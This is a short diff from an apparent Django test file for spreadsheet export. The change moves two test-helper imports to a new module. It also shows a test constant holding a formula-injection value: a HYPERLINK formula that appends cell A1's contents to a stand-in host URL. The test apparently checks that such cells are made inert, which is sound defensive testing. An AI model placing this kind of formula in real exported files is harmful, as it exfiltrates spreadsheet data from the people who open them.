@@ -8,7 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from portal.tabular import inert, respond
-from tests.notices.conftest import ack, publish_notice
+from tests.notices.builders import ack, publish_notice
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"y")'
 
